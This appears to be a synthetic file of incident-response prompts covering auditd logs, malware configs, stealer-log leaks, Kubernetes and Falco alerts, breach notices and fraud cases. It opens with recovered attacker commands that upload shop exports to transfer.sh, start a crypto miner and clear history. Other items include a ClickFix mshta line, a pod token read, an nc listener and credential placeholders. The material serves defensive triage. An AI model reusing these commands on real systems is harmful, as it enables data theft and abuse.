curl -s -u elastic:[[SECRET|El4stic-Sh0p-2024]] http://[[IP_ADDRESS|10.20.5.20]]:9200/_cat/indices?v
tar czf /tmp/.c.tgz /var/www/shop/storage/exports && curl -s -T /tmp/.c.tgz https://transfer.sh/c.tgz
/tmp/.kw -o pool.supportxmr.com:443 -u 4@@alnum:t069xmr:94@@ -p web03 --tls -B
history -c

(The history survived because HISTFILE was flushed on logout before "history -c" ran in a second session.)

### h25-070
I set up auditd rules for privilege escalation monitoring. Are these events what I'd expect from a normal sudo, and is the proctitle field hex for a reason?

type=USER_AUTH msg=audit(1750060812.204:48213): pid=91822 uid=1000 auid=1000 ses=14 subj=unconfined msg='op=PAM:authentication grantors=pam_unix acct="opsadmin" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/0 res=success'
type=USER_CMD msg=audit(1750060812.211:48214): pid=91822 uid=1000 auid=1000 ses=14 subj=unconfined msg='cwd="/home/opsadmin" cmd=73797374656D63746C2072657374617274206E67696E78 exe="/usr/bin/sudo" terminal=pts/0 res=success'
type=SYSCALL msg=audit(1750060812.219:48216): arch=c000003e syscall=59 success=yes exit=0 a0=55d1c4e2a0f0 a1=55d1c4e29e40 a2=55d1c4e2b7a0 a3=8 items=2 ppid=91822 pid=91823 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=14 comm="systemctl" exe="/usr/bin/systemctl" subj=unconfined key="priv_esc"
type=EXECVE msg=audit(1750060812.219:48216): argc=3 a0="systemctl" a1="restart" a2="nginx"
type=PATH msg=audit(1750060812.219:48216): item=0 name="/usr/bin/systemctl" inode=1318204 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0
type=PROCTITLE msg=audit(1750060812.219:48216): proctitle=73797374656D63746C0072657374617274006E67696E78

/etc/audit/rules.d/50-privesc.rules:
-a always,exit -F arch=b64 -S execve -F euid=0 -F auid>=1000 -F auid!=4294967295 -k priv_esc
-w /etc/sudoers -p wa -k sudoers_change
-w /etc/sudoers.d/ -p wa -k sudoers_change

auditd 3.1.2 on Ubuntu 24.04, log_format = ENRICHED, flush = INCREMENTAL_ASYNC, freq = 50. The box has one NIC and listens only on 127.0.0.1:8080 behind the load balancer.

### h25-071
Sandbox extracted this config from an Agent Tesla-like sample that landed in our purchasing team's inbox. Which of these indicators can I hand to our hosting and mail providers for takedown, and is it safe to log in to the attacker's FTP to see what was stolen? (I assume not.)

Sample: PO-88213_scan.exe  SHA256 @@hex:t071h1:64@@  (.NET, ConfuserEx 1.6, compiled 2025-06-09 22:14:07 UTC)
Extracted configuration (sandbox module "tesla_cfg" v2.3):
  Protocol          : SMTP (primary), FTP (fallback), Telegram (screenshots)
  SMTP host         : mail.vertexlogistic-gr.com ([[IP_ADDRESS|@@ip:t071a@@]])
  SMTP port         : 587 (STARTTLS)
  SMTP user         : [[EMAIL|logs@vertexlogistic-gr.com]]
  SMTP password     : [[SECRET|V3rtex!Logs#2025]]
  SMTP recipient    : [[EMAIL|tr.vault2025@yandex.com]]
  FTP URL           : [[URL_CREDENTIALS|ftp://upl_pw:Qx7tLm29Rf@@@ip:t071b@@/logs/]]
  Telegram token    : [[SECRET|@@telegram:t071tg@@]]
  Telegram chat id  : @@digits:t071chat:10@@
  Keylogger interval: 20 min | Screenshot interval: 30 min | Mutex: @@alnum:t071mx:16@@
  Persistence       : HKCU\Software\Microsoft\Windows\CurrentVersion\Run\ "jcEuQe" -> %APPDATA%\jcEuQe\jcEuQe.exe
Network in sandbox: DNS mail.vertexlogistic-gr.com, api.ipify.org (public IP check), TCP [[IP_ADDRESS|@@ip:t071a@@]]:587, TLS to api.telegram.org.
Two colleagues opened the attachment before the block; their machines are isolated.

### h25-072
Sandbox report summary for a sample our gateway caught. Can you tell me which artefacts are good for hunting in our EDR and which are too generic?

File: Remittance_Advice_0612.img > Remittance_Advice_0612.exe
SHA256 @@hex:t072h1:64@@ | SHA1 @@hex:t072h2:40@@ | MD5 @@hex:t072h3:32@@
imphash @@hex:t072imp:32@@ | TLSH T1@@uhex:t072tlsh:70@@ | ssdeep 6144:@@alnum:t072ss1:40@@:@@alnum:t072ss2:24@@
PE: x86, .NET 4.x, compile time 2025-06-10T03:17:44Z (likely faked), sections .text (entropy 7.91), .rsrc (entropy 7.98), .reloc
Signature: none. VersionInfo: CompanyName "Orion Data Tools", ProductVersion 3.2.0.11, OriginalFilename "Lawrence.exe"
Behaviour:
- Mutex: @@alnum:t072mx:16@@
- Drops %TEMP%\tmp@@uhex:t072tmp:4@@.tmp (SHA256 @@hex:t072h4:64@@), schedules task "Updates\@@alnum:t072task:8@@" via schtasks /create /xml
- Process hollowing into RegAsm.exe (T1055.012), credential access from browsers (T1555.003), keylogging (T1056.001)
- Network: DNS query for api.ipify.org only; C2 config not extracted (sample exits when it detects the sandbox's MAC prefix 08:00:27)
YARA hits: MAL_AgentTesla_Generic_Jun24 (rule id 48213), SUSP_NET_ConfuserEx_Packed
Sigma hits: proc_creation_win_schtasks_creation_temp_folder (id @@uuid:t072sig@@)
Verdict: malicious (score 92/100), family: AgentTesla (78% confidence). Analysis id @@uuid:t072an@@, VM win10-x64-22H2, 240 s run.

### h25-073
Our CTI provider delivered stealer-log hits for our domain. These are parsed records from logs sold on a market last week. Can you tell me which ones are urgent (valid sessions, admin accounts) and draft the message to the affected staff?

Record 1 | family: LummaC2 | infection date: 2025-06-11 | country: DE | victim IP: [[IP_ADDRESS|@@ip:t073a@@]] | HWID @@uhex:t073hw1:32@@
  url: https://vpn.almhaus-immobilien.de/+CSCOE+/logon.html  login: [[EMAIL|s.brandauer@almhaus-immobilien.de]]  password: [[SECRET|Brandauer#Alm2025]]
  url: https://almhaus.my.salesforce.com/  login: [[EMAIL|s.brandauer@almhaus-immobilien.de]]  password: [[SECRET|Brandauer#Alm2025]]
  cookie: .my.salesforce.com  sid  [[SECRET|00D@@alnum:t073sfo:15@@!@@alnum:t073sfs:96@@]]  expires 2025-06-18
  autofill: phone [[PHONE|@@phone:t073p:DE:m:intl@@]]
Record 2 | family: RedLine | infection date: 2025-06-03 | country: AT | victim IP: [[IP_ADDRESS|@@ip:t073b@@]] | HWID @@uhex:t073hw2:32@@
  url: https://portal.almhaus-immobilien.de/admin  login: [[EMAIL|it-admin@almhaus-immobilien.de]]  password: [[SECRET|Alm!Adm1n-Portal]]
  cookie: portal.almhaus-immobilien.de  auth_token  [[JWT|@@jwt:t073j:HS256@@]]  expires 2025-06-30
  url: https://accounts.google.com  login: [[EMAIL|jkerschbaumer.private@gmail.com]]  password: [[SECRET|Kerschi-1988!]]
Summary from provider: 2 infected machines (one company laptop, one private PC), 14 credentials for our domains, 4 session cookies still within expiry.

### h25-074
Monthly CTI digest draft on infostealers. Please tighten it into five bullet points for the CISO and keep the numbers.

Infostealer landscape - May 2025 (sources: provider feed, 3 Telegram log channels monitored by name only, two markets)
- Volume: 1.84 M new logs indexed (+12% vs April). Family share: LummaC2 41%, RedLine 17%, StealC 14%, Vidar 9%, Rhadamanthys 6%, other 13%.
- Our exposure: 7 logs with our domains (4 private devices of staff, 3 company devices), 0 with valid admin credentials after triage, 2 with session cookies past expiry. All cases closed (CTI-2025-05-011 … 017).
- Delivery: fake CAPTCHA pages ("ClickFix") asking users to paste a PowerShell one-liner into Win+R, e.g. mshta hxxps://verify-captcha-cdn[.]com/v2 (T1204.004); cracked-software sites; malvertising for "Teams download".
- Infrastructure: Lumma C2 domains rotate weekly behind Cloudflare; Steam community profiles used as dead-drop resolvers (T1102.001).
- Detection content added: Sigma rule "RunMRU entry with mshta and http" (id @@uuid:t074sig@@), YARA rule LUMMA_C2_cfg_v4 (sha256 of test sample @@hex:t074h1:64@@), EDR custom IOA 4417.
- Sample hashes for the appendix: StealC @@hex:t074h2:64@@; Vidar @@hex:t074h3:64@@; JA3 of Lumma loader @@hex:t074ja3:32@@.
- Law enforcement: Operation Endgame phase 2 (May 2025) disrupted part of the Lumma infrastructure; the Europol press release lists 2,300 domains seized. Expect rebound within 4-6 weeks based on the RedLine takedown in Oct 2024.
- Recommendations: enforce phishing-resistant MFA for VPN and Salesforce (ticket SEC-2291), shorten Salesforce session timeout from 12 h to 2 h, block mshta.exe with WDAC, and turn on ASR rule d4f940ab-401b-4efc-aadc-ad5f3c50688a (Office apps creating child processes) in audit mode first.

### h25-075
Kubernetes audit log from the payments cluster. A developer's OIDC identity read a Secret it never needs and then exec'd into a pod. The audit policy logs Secrets at RequestResponse (I know, we're fixing it), so the values are in the log. Please help me scope the blast radius.

{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"@@uuid:t075a1@@","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/payments/secrets/payments-db","verb":"get","user":{"username":"oidc:[[EMAIL|b.achterberg@zuidlijn-betaal.nl]]","groups":["oidc:eng-payments","system:authenticated"]},"sourceIPs":["[[IP_ADDRESS|@@ip:t075a@@]]"],"userAgent":"kubectl/v1.30.1 (linux/amd64) kubernetes/6911225","objectRef":{"resource":"secrets","namespace":"payments","name":"payments-db","apiVersion":"v1"},"responseStatus":{"code":200},"responseObject":{"kind":"Secret","apiVersion":"v1","metadata":{"name":"payments-db","namespace":"payments","uid":"@@uuid:t075uid@@","resourceVersion":"48211903"},"data":{"host":"cGF5bWVudHMtZGIucGF5bWVudHMuc3ZjLmNsdXN0ZXIubG9jYWw=","port":"NTQzMg==","username":"cGF5bWVudHNfcnc=","password":"[[SECRET|UG10LURiLVJ3ITIyOTE=]]"},"type":"Opaque"},"requestReceivedTimestamp":"2025-06-16T23:40:12.118204Z"}
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"@@uuid:t075a2@@","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/payments/pods/ledger-api-7d9c6b5f8-x2kq4/exec?command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=app&stdout=true","verb":"create","user":{"username":"oidc:[[EMAIL|b.achterberg@zuidlijn-betaal.nl]]"},"sourceIPs":["[[IP_ADDRESS|@@ip:t075a@@]]"],"objectRef":{"resource":"pods","namespace":"payments","name":"ledger-api-7d9c6b5f8-x2kq4","subresource":"exec"},"responseStatus":{"code":101}}

The pod's service account token he printed (from his terminal scrollback, which he shared with us):
[[JWT|@@jwt:t075j:RS256@@]]

He was at home in Utrecht; the source address is his home ISP. He says he was "checking whether the DB password was rotated". The ledger-api service account can list secrets in the payments namespace.

### h25-076
Falco fired "Terminal shell in container" on three pods during the maintenance window. Can you check whether these match our runbook (kubectl exec by the on-call) or something else?

{"hostname":"ip-node-7","output":"14:02:11.118204733: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=sh proc_exepath=/bin/busybox parent=runc command=sh terminal=34816 exe_flags=EXE_WRITABLE container_id=@@hex:t076c1:12@@ container_image=registry.internal/payments/ledger-api container_image_tag=2.14.3 container_name=app k8s_ns=payments k8s_pod_name=ledger-api-7d9c6b5f8-x2kq4)","priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["T1059","container","maturity_stable","mitre_execution","shell"],"time":"2025-06-17T14:02:11.118204733Z","output_fields":{"container.id":"@@hex:t076c1:12@@","container.image.repository":"registry.internal/payments/ledger-api","container.image.tag":"2.14.3","evt.time":1750168931118204733,"k8s.ns.name":"payments","k8s.pod.name":"ledger-api-7d9c6b5f8-x2kq4","proc.cmdline":"sh","proc.pid":48213,"user.loginuid":-1,"user.name":"root"}}
{"hostname":"ip-node-3","output":"14:05:40.902771104: Notice A shell was spawned ... container_id=@@hex:t076c2:12@@ container_image=registry.internal/payments/settlement-worker container_image_tag=1.9.0 k8s_ns=payments k8s_pod_name=settlement-worker-5b8f9c7d6-mm2rt","priority":"Notice","rule":"Terminal shell in container","time":"2025-06-17T14:05:40.902771104Z"}
{"hostname":"ip-node-3","output":"14:07:02.000412771: Warning Redirect stdout/stdin to network connection (connection=0.0.0.0:4444->0.0.0.0:0 fd.sip=0.0.0.0 fd.sport=4444 process=nc parent=sh container_id=@@hex:t076c2:12@@)","priority":"Warning","rule":"Redirect STDOUT/STDIN to Network Connection in Container","time":"2025-06-17T14:07:02.000412771Z"}

Runbook RB-PAY-07 says on-call may exec into ledger-api and settlement-worker for queue inspection. Image digests: ledger-api sha256:@@hex:t076d1:64@@, settlement-worker sha256:@@hex:t076d2:64@@. Falco 0.38.1, driver modern_ebpf. The nc listener on 0.0.0.0:4444 is the part I can't explain.

### h25-077
Kannst du aus dieser Mail eine sachliche Meldung an die Aufsichtsbehörde (Art. 33 DSGVO) vorbereiten? Die Beispieldatensätze sollen nur intern bleiben, aber ich brauche sie für die Einschätzung des Risikos.

Von: Dr. Helga Brückner (Datenschutzbeauftragte) <[[EMAIL|datenschutz@weidenhof-logistik.de]]>
An: Geschäftsführung; IT-Sicherheit
Betreff: Datenabfluss HR-Share - Stand 17.06., 08:30

Die Angreifer (Gruppe "KRAKENLOCK") haben am 16.06. eine Datei "personal_2024.xlsx" auf ihrer Leak-Seite veröffentlicht. Sie enthält 612 Datensätze aktueller und ehemaliger Beschäftigter mit Name, privater E-Mail, Mobilnummer, Geburtsdatum und Bankverbindung. Zwei Beispielzeilen zur Einordnung:

Kaya, Deniz | [[EMAIL|deniz.kaya91@web.de]] | [[PHONE|@@phone:t077p1:DE:m:national@@]] | geb. [[DATE_OF_BIRTH|03.08.1991]] | [[IBAN|@@iban:t077i1:DE:spaced@@]]
Albrecht, Jutta | [[EMAIL|j.albrecht@t-online.de]] | [[PHONE|@@phone:t077p2:DE:m:intl@@]] | geb. [[DATE_OF_BIRTH|19.01.1968]] | [[IBAN|@@iban:t077i2:DE@@]]

Besondere Kategorien (Art. 9) sind nach erster Prüfung nicht enthalten; die Spalte "Konfession" für die Lohnsteuer ist leer. Die Meldefrist von 72 Stunden läuft ab Kenntnis am 16.06., 14:10 Uhr, also bis 19.06., 14:10 Uhr. Rückfragen bitte an mich unter [[PHONE|@@phone:t077p3:DE:f:national@@]].

### h25-078
Bitte prüfe diese Vorlage für Meldungen nach Art. 33 DSGVO. Fehlt etwas, was die Landesbeauftragten typischerweise nachfragen?

Vorlage M-33 (Version 1.4, Stand 03/2025)
1. Verantwortlicher: [Firma, Anschrift, Registernummer HRB …], Datenschutzbeauftragte/r: [Name, Kontakt über das Datenschutzpostfach]
2. Art der Verletzung: ☐ Vertraulichkeit ☐ Verfügbarkeit ☐ Integrität; Zeitpunkt der Verletzung [TT.MM.JJJJ hh:mm], Zeitpunkt der Kenntnis [TT.MM.JJJJ hh:mm]
3. Kategorien und ungefähre Zahl der betroffenen Personen: [z. B. Beschäftigte ca. 600]; Kategorien und ungefähre Zahl der Datensätze
4. Datenkategorien: ☐ Kontaktdaten ☐ Geburtsdatum ☐ Bankverbindung ☐ Gesundheitsdaten (Art. 9) ☐ Zugangsdaten
5. Wahrscheinliche Folgen; ergriffene und vorgeschlagene Maßnahmen (Art. 33 Abs. 3 lit. c und d)
6. Benachrichtigung der Betroffenen nach Art. 34: ☐ erfolgt am [Datum] ☐ geplant ☐ nicht erforderlich, weil [Begründung, Art. 34 Abs. 3]
7. Bei Überschreitung der 72-Stunden-Frist: Begründung der Verzögerung (Art. 33 Abs. 1 Satz 2)
8. Interne Dokumentation nach Art. 33 Abs. 5: Vorgangsnummer DS-2025-#### , Ablage im ISMS-Tool, Aufbewahrung 3 Jahre
Hinweise: Das Online-Formular der Behörde vergibt ein Aktenzeichen (z. B. "LDA-1085.3-4412/25"); Nachmeldungen unter Bezug auf dieses Aktenzeichen. Beispieldaten in Schulungen nur mit Platzhaltern wie "max.mustermann@example.com" oder "DE00 0000 0000 0000 0000 00" verwenden.

### h25-079
以下の第1報を、経営層向けに分かりやすく要約してください（箇条書き5つ以内）。個人情報や認証情報は社内限定なのでそのまま残して構いません。

件名：【第1報】VPN経由の不正アクセスについて（社外秘）
発信：情報システム部 セキュリティ担当 中村 [[EMAIL|k.nakamura@hoshizora-seiki.co.jp]]

1. 検知：2025年6月16日 03:12頃、SSL-VPN装置に対し [[IP_ADDRESS|@@ip:t079a@@]] および [[IP_ADDRESS|@@ip:t079b@@]] から総当たり攻撃（約2,400回）を確認。
2. 侵入：03:40、営業部 坂本さんのアカウント（[[EMAIL|t.sakamoto@hoshizora-seiki.co.jp]]）でログイン成功。多要素認証の対象外アカウントでした。割り当てIPは [[IP_ADDRESS|172.20.100.14]]。
3. 内部活動：03:52〜04:30 にファイルサーバ（[[IP_ADDRESS|192.168.20.15]]）の「共有\総務\パスワード一覧.xlsx」を閲覧。同ファイルには基幹システム管理者パスワード「[[SECRET|Hoshi#Kikan2023]]」と複合機管理パスワード「[[SECRET|mfp-admin-0417]]」が記載されていました（両方とも本日09:00に変更済み）。
4. 外部送信：04:31〜04:58 に約1.2GBの通信が [[IP_ADDRESS|@@ip:t079c@@]]:443 宛に発生。内容は調査中。
5. 対応：VPNアカウント停止、攻撃元IPの遮断、全VPNアカウントへの多要素認証適用を本日中に実施。
連絡先：情報システム部 直通 [[PHONE|@@phone:t079p1:JP:f:national@@]]／夜間・休日は中村の携帯 [[PHONE|@@phone:t079p2:JP:m:national@@]] まで。
次回報告：6月17日 17:00（第2報）

### h25-080
次の脆弱性情報を読んで、当社（FortiGate 7.2系、Ivanti未使用）に影響があるか判断材料を整理してください。

JVNVU#99477013（更新日 2025/06/10）
Fortinet製FortiOSおよびFortiProxyにおける境界外書き込みの脆弱性
CVE-2024-21762 / CVSS v3 基本値 9.8（CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H）/ CWE-787
影響を受ける製品：
- FortiOS 7.4.0 から 7.4.2 まで
- FortiOS 7.2.0 から 7.2.6 まで
- FortiOS 7.0.0 から 7.0.13 まで
- FortiProxy 7.4.0 から 7.4.2 まで
対策：開発者が提供する情報をもとに、最新版（FortiOS 7.4.3、7.2.7、7.0.14 以降）へアップデートしてください。ワークアラウンドとして SSL-VPN の無効化（Webモードの無効化のみでは不十分）が挙げられています。
参考：Fortinet PSIRT FG-IR-24-015、CISA KEV 登録日 2024/02/09、JPCERT/CC 注意喚起 JPCERT-AT-2024-0004
当社状況：本社 FortiGate-100F は v7.2.8 build1639（2025/03 適用済み）、大阪拠点 FortiGate-60F は v7.2.5 build1517（未適用、保守期限 2025/09/30）。ライセンス番号 FGVM02TM24001188、サポート契約 #4471-0917。

### h25-081
Peux-tu résumer ce ticket pour le comité de crise et proposer les actions immédiates ? C'est une fraude au changement de RIB sur la paie, la boîte mail d'une salariée a été compromise.

Ticket SOC-2025-0613-022 | Priorité : haute | Analyste : Julien Marchetti
- 12/06 21:47 : connexion à la messagerie de [[EMAIL|c.lefebvre@atelier-brisson.fr]] depuis [[IP_ADDRESS|@@ip:t081a@@]] (hébergeur, Pays-Bas), sans MFA (compte exclu par erreur du groupe "MFA-Obligatoire").
- 12/06 21:52 : création d'une règle de boîte de réception « RH » déplaçant les messages de [[EMAIL|paie@atelier-brisson.fr]] vers « Flux RSS ».
- 13/06 08:05 : envoi depuis la boîte compromise vers paie@ : « Bonjour, suite à mon changement de banque, merci de verser mon salaire de juin sur mon nouveau compte : [[IBAN|@@iban:t081new:FR:spaced@@]]. Cordialement, Camille Lefebvre »
- 13/06 10:30 : le service paie a modifié le RIB dans le logiciel de paie (ancien RIB : [[IBAN|@@iban:t081old:FR:spaced@@]]).
- 13/06 16:12 : Camille appelle le support depuis son portable [[PHONE|@@phone:t081p:FR:m:national@@]] : elle n'a jamais envoyé ce message. Réponses aux messages de paie@ reçues sur [[EMAIL|c.lefebvre.paie@outlook.fr]] (adresse inconnue d'elle).
- Virement de paie prévu le 27/06 : 2 614,38 € nets. Pas encore exécuté.
Mesures prises : mot de passe réinitialisé, sessions révoquées, règle supprimée, compte ajouté au groupe MFA. Dépôt de plainte à faire ; signalement sur cybermalveillance.gouv.fr.

### h25-082
Peux-tu m'aider à rédiger une note de synthèse de cet avis pour nos équipes d'exploitation ? Nous utilisons GitLab CE auto-hébergé et Apache Tomcat.

Avis CERTFR-2025-AVI-0412 - Multiples vulnérabilités dans les produits GitLab et Apache Tomcat (publié le 12 juin 2025)
Risques : contournement de la politique de sécurité, élévation de privilèges, injection de code indirecte à distance (XSS), déni de service à distance.
Systèmes affectés :
- GitLab Community Edition (CE) et Enterprise Edition (EE) versions 17.10.x antérieures à 17.10.8
- GitLab CE et EE versions 17.11.x antérieures à 17.11.4, versions 18.0.x antérieures à 18.0.2
- Apache Tomcat versions 9.0.x antérieures à 9.0.106, 10.1.x antérieures à 10.1.42, 11.0.x antérieures à 11.0.8
Documentation : bulletins de sécurité GitLab 18.0.2 du 11 juin 2025 ; CVE-2025-4278, CVE-2025-5121, CVE-2025-2254, CVE-2025-0673 ; bulletin Apache Tomcat CVE-2025-48988 (CVSS 3.1 : 7.5), CVE-2025-49125 (7.5).
Notre parc (extrait CMDB) : gitlab.interne.atelier-brisson.fr en 17.11.2 (omnibus, Debian 12), 3 instances Tomcat 9.0.98 (application devis, serveurs TOM01 à TOM03). Fenêtre de maintenance : mardi 22h-02h, changement CHG-0625-17 ouvert.

### h25-083
Necesito un resumen en inglés de este caso para el equipo de fraude del grupo. Es un duplicado de SIM seguido de toma de control de la banca online. Por favor, conserva todos los datos: va al expediente interno.

Expediente FRD-2025-06-1187 | Oficina 0412 Valencia
Cliente: Amparo Soler Ribes, fecha de nacimiento [[DATE_OF_BIRTH|11/02/1974]], DNI 4xxxxxxx-X (ver ficha)
Móvil registrado: [[PHONE|@@phone:t083p1:ES:m:national@@]]; correo: [[EMAIL|amparo.soler.r@telefonica.net]]
Cronología (14/06/2025):
- 07:58 el operador confirma un duplicado de SIM emitido en una tienda de Alicante (la clienta estaba en Valencia).
- 08:20 acceso a banca online desde [[IP_ADDRESS|@@ip:t083a@@]] con nuevo dispositivo; OTP enviado al móvil duplicado.
- 08:26 alta de Bizum a un número desconocido [[PHONE|@@phone:t083p2:ES:m:intl@@]] y tres envíos de 500 € cada uno.
- 08:41 compra en comercio electrónico con la tarjeta [[CREDIT_CARD|@@card:t083c:mc:spaced@@]] por 1.899,00 € (MCC 5732), autenticada con OTP.
- 09:15 la clienta llama desde el fijo de su hija [[PHONE|@@phone:t083p3:ES:f:national@@]]; bloqueamos tarjeta y banca online.
Importe total: 3.399,00 €. Denuncia presentada en la Policía Nacional (atestado 11874/25). Solicitada retrocesión de la operación con tarjeta (chargeback, motivo 10.4).

### h25-084
¿Puedes revisar este procedimiento de verificación para duplicados de SIM y decirme si cumple con la guía del Banco de España y la PSD2?

Procedimiento PR-FRAUDE-09 (v3.0, junio 2025) - Cambio de dispositivo y duplicado de SIM
1. Señal de duplicado: el operador informa vía API (servicio "SIM Swap Check", respuesta con fecha del último cambio). Si el último cambio es inferior a 72 horas, se bloquean altas de dispositivo, cambios de teléfono y Bizum a nuevos beneficiarios.
2. Autenticación reforzada (SCA, art. 97 PSD2 y RTS 2018/389): dos factores de categorías distintas; el SMS OTP solo vale como "posesión" si no hay duplicado reciente.
3. Exenciones: operaciones de bajo importe (< 30 €, máximo 5 consecutivas o 100 € acumulados) no aplican tras cambio de dispositivo.
4. Llamada de verificación desde la oficina al teléfono fijo o móvil registrado hace más de 90 días, nunca a un número facilitado en la misma llamada.
5. Registro en la herramienta de casos con código de motivo SIM-01 a SIM-05; plazo de respuesta a reclamaciones: 15 días hábiles (PSD2) y derivación al Banco de España si no hay respuesta.
Indicadores del primer semestre: 412 alertas de duplicado, 37 fraudes confirmados, 1,2 M€ evitados; tasa de falsos positivos 91 %. Versión del motor: 4.8.2, regla R-SIM-72H (id 6611).

### h25-085
Preciso de um resumo deste caso de golpe do PIX para o jurídico. Mantenha os dados, é para o processo interno.

Caso FRA-2025-06-2291 | Central de prevenção a fraudes
Cliente vítima: Rosângela Pereira da Silva, nascida em [[DATE_OF_BIRTH|27/05/1961]], CPF ***.412.887-** (mascarado no sistema), celular [[PHONE|@@phone:t085p1:BR:m:national@@]], e-mail [[EMAIL|rosangela.psilva@uol.com.br]]
Relato (ligação de 15/06, 10:12):
- Recebeu ligação de um "funcionário do banco" do número [[PHONE|@@phone:t085p2:BR:f:intl@@]] informando uma compra suspeita e pedindo para instalar um aplicativo de "proteção" (app de acesso remoto).
- Com o acesso remoto, o golpista fez 4 transferências PIX entre 09:31 e 09:48, total R$ 18.740,00, para chave aleatória @@uuid:t085chave@@ e para a chave e-mail [[EMAIL|pagamentos.seguranca.app@gmail.com]].
- Acesso ao internet banking no mesmo horário a partir do IP [[IP_ADDRESS|@@ip:t085a@@]] (dispositivo da cliente, controlado remotamente).
Ações: MED (Mecanismo Especial de Devolução) acionado às 10:40 para as 4 transações (IDs E@@digits:t085e2e:31@@ e outras três); conta recebedora bloqueada cautelarmente pela instituição destinatária. Boletim de ocorrência nº 8812/2025 (Delegacia Eletrônica SP).

### h25-086
Pode revisar este roteiro de atendimento para clientes que caíram no golpe da falsa central? Quero checar se os prazos do MED estão corretos.

Roteiro ATD-FRAUDE-03 (versão 2.2, junho/2025)
1. Acolher o cliente e confirmar identidade pelo app (biometria facial) - nunca pedir senha, token ou código recebido por SMS.
2. Bloquear imediatamente: PIX, TED, cartões e limites; encerrar sessões ativas e revogar dispositivos confiáveis.
3. Acionar o MED (Resolução BCB nº 103/2021, atualizada pela Resolução BCB nº 402/2024) em até 80 dias da transação; a instituição recebedora tem até 7 dias para análise e o bloqueio cautelar pode durar até 72 horas.
4. Orientar o registro de boletim de ocorrência e informar o protocolo do atendimento (formato ATD-AAAA-MM-NNNNNN, por exemplo ATD-2025-06-004417).
5. Registrar no sistema antifraude: tipo de golpe (código G07 - falsa central), canal (voz), valores, horários e chaves PIX de destino (campo mascarado: ***.***.***-** para CPF, e-mail mascarado como r***@u**.com.br).
6. Prazo de resposta ao cliente: 5 dias úteis; reclamações na ouvidoria em até 10 dias úteis.
Indicadores maio/2025: 1.184 acionamentos do MED, 23,4% com devolução parcial ou total, tempo médio de bloqueio cautelar 41 minutos. Central de atendimento: o número oficial é o que está no verso do cartão; campanha "O banco não liga pedindo para instalar app" (peça 2025-05-17).

### h25-087
Cisco ASA syslog from the VPN headend, filtered to one user. HR says he left the company on Friday; his account should be disabled but apparently isn't. Can you tell me what the session did?

Jun 16 2025 19:02:44 asa-hq-01 : %ASA-6-113004: AAA user authentication Successful : server = [[IP_ADDRESS|10.1.20.5]] : user = [[EMAIL|m.vandenberg@korvath-industries.com]]
Jun 16 2025 19:02:44 asa-hq-01 : %ASA-6-113008: AAA transaction status ACCEPT : user = [[EMAIL|m.vandenberg@korvath-industries.com]]
Jun 16 2025 19:02:45 asa-hq-01 : %ASA-4-722051: Group <GP-Employees> User <[[EMAIL|m.vandenberg@korvath-industries.com]]> IP <[[IP_ADDRESS|@@ip:t087a@@]]> IPv4 Address <[[IP_ADDRESS|10.250.8.77]]> IPv6 address <::> assigned to session
Jun 16 2025 19:02:45 asa-hq-01 : %ASA-6-722022: Group <GP-Employees> User <[[EMAIL|m.vandenberg@korvath-industries.com]]> IP <[[IP_ADDRESS|@@ip:t087a@@]]> TCP SVC connection established without compression
Jun 16 2025 19:05:12 asa-hq-01 : %ASA-6-302013: Built outbound TCP connection 118204771 for inside:[[IP_ADDRESS|10.40.3.12]]/445 ([[IP_ADDRESS|10.40.3.12]]/445) to vpn-pool:[[IP_ADDRESS|10.250.8.77]]/51022 ([[IP_ADDRESS|10.250.8.77]]/51022) (m.vandenberg)
Jun 16 2025 20:41:09 asa-hq-01 : %ASA-6-302014: Teardown TCP connection 118204771 for inside:[[IP_ADDRESS|10.40.3.12]]/445 to vpn-pool:[[IP_ADDRESS|10.250.8.77]]/51022 duration 1:35:57 bytes 4823119044 TCP FINs (m.vandenberg)
Jun 16 2025 20:43:30 asa-hq-01 : %ASA-5-722037: Group <GP-Employees> User <[[EMAIL|m.vandenberg@korvath-industries.com]]> IP <[[IP_ADDRESS|@@ip:t087a@@]]> SVC closing connection: User Requested.
Jun 16 2025 20:43:30 asa-hq-01 : %ASA-4-113019: Group = GP-Employees, Username = [[EMAIL|m.vandenberg@korvath-industries.com]], IP = [[IP_ADDRESS|@@ip:t087a@@]], Session disconnected. Session Type: SSL, Duration: 1h:40m:45s, Bytes xmt: 4825311908, Bytes rcv: 11840221, Reason: User Requested

[[IP_ADDRESS|10.40.3.12]] is the engineering file server (CAD drawings). 4.8 GB in 96 minutes.

### h25-088
Reviewing our ASA AnyConnect config before the audit. Anything obviously weak? Secrets are masked in the running-config output, as the ASA does.

asa-hq-01# show running-config tunnel-group GP-Employees
tunnel-group GP-Employees type remote-access
tunnel-group GP-Employees general-attributes
 address-pool VPN-POOL-EMP
 authentication-server-group ISE-RADIUS
 default-group-policy GP-Employees
tunnel-group GP-Employees webvpn-attributes
 group-alias Employees enable
asa-hq-01# show running-config aaa-server ISE-RADIUS
aaa-server ISE-RADIUS protocol radius
aaa-server ISE-RADIUS (inside) host ise-psn-01.korvath.local
 key *****
 authentication-port 1812
 accounting-port 1813
asa-hq-01# show running-config group-policy GP-Employees attributes
group-policy GP-Employees attributes
 vpn-idle-timeout 30
 vpn-session-timeout 720
 split-tunnel-policy tunnelspecified
 split-tunnel-network-list value SPLIT-ACL
 address-pools value VPN-POOL-EMP
access-list SPLIT-ACL standard permit 10.0.0.0 255.0.0.0
access-list SPLIT-ACL standard permit 172.16.0.0 255.240.0.0
(VPN-POOL-EMP is 10.250.8.0/22, mask 255.255.252.0; defined in the pool config, not shown)
asa-hq-01# show version | include Version|Serial
Cisco Adaptive Security Appliance Software Version 9.18(4)22
